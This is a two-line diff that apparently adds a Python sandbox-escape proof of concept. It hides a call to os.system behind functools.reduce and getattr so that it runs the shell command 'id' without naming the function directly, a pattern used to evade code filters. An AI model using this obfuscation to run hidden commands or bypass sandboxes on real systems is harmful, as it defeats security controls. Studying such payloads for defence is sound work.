@@ -1,0 +1,2 @@
+import functools, os
+functools.reduce(getattr, ['system'], os)('id')
